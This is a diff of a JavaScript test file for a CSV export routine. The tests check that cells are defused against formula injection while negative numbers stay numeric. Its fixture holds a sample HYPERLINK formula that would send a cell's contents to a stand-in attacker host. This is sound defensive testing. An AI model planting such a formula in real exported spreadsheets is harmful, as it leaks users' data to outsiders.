@@ -18,11 +18,15 @@ describe('neutralizeCell', () => {
   });
 
   it.each([-5, 0, 12.5])('keeps the number %p a number', (n) => expect(neutralizeCell(n)).toBe(n));
-  it.each(['-5', '-12.30', '+3', '0.5'])('keeps text that is a plain number (%j), so it still reads as one', (n) => expect(neutralizeCell(n)).toBe(n));
+  it.each(['-5', '-12.30', '+3', '0.5'])('keeps text that is a plain number (%j), so it still reads as one', (n) =>
+    expect(neutralizeCell(n)).toBe(n),
+  );
 });
 
 describe('writeTable', () => {
-  const rows = [{ remark: '=HYPERLINK("http://evil.example/?x="&A1,"click")', refunded: '-5.00', qty: -2, title: '@home' }];
+  const rows = [
+    { remark: '=HYPERLINK("http://evil.example/?x="&A1,"click")', refunded: '-5.00', qty: -2, title: '@home' },
+  ];
   const columns = ['remark', 'refunded', 'qty', 'title'];
 
   it('writes no live formula into a CSV, and keeps negative amounts numeric', async () => {
